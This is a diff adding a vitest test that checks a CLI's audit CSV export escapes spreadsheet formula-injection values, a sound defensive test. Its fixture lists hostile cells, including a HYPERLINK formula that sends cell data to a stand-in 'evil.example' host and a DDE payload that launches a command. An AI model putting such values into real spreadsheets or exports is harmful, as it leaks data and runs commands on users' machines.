@@ -3,6 +3,7 @@ import path from 'node:path';
 import Database from 'better-sqlite3';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { DATA_TOOL } from '../../../src/main/core';
+import { seedAuditRows } from '../../helpers/audit-seed';
 import { openFolderCore } from '../../helpers/core';
 import { runCliInProcess } from '../../helpers/cli-in-process';
 import { makeTempDir } from '../../helpers/temp-dir';
@@ -116,5 +117,33 @@ describe('calldeck audit export', () => {
     expect(again.stderr).toContain(`${out} exists: choose a new file for the audit export`);
     const list = await runCliInProcess(['audit', 'list', '--action', 'audit.exportCsv', '--data', data]);
     expect(list.stdout).toMatch(/exported audit rows as CSV \(subject dnc\)\n1 of 1 matching row\n$/);
+  });
+
+  it('a row whose text a spreadsheet would run (=, +, -, @, tab) is written as text, never as a formula', async () => {
+    const hostile = [
+      '=HYPERLINK("http://evil.example/?"&A1,"open")',
+      "+cmd|' /C calc'!A0",
+      '-2+3',
+      '@SUM(1)',
+      '\t=1+1',
+    ];
+    seedAuditRows(data, path.join(data, 'calldeck.sqlite'), hostile.length, { subject: (i) => hostile[i]! });
+    const out = path.join(root, 'hostile.csv');
+    const r = await runCliInProcess([
+      'audit',
+      'export',
+      '--action',
+      'calls.status',
+      '--out',
+      out,
+      '--data',
+      data,
+    ]);
+    expect(r.code, r.stderr).toBe(0);
+    const text = fs.readFileSync(out, 'utf8');
+    for (const h of hostile) {
+      const quoted = h.includes('"') || h.includes(',') ? `"'${h.replace(/"/g, '""')}"` : `'${h}`;
+      expect(text, h).toContain(`,${quoted},`);
+    }
   });
 });
